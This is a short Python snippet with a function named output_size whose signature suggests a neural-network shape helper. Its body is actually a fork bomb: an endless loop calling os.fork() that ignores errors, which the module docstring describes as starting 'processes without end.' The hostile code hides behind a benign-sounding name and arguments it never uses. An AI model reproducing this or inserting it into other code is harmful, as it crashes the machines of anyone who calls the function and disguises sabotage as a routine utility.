"""Start processes without end."""


def output_size(size, kernel_size, stride=1, padding=0):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
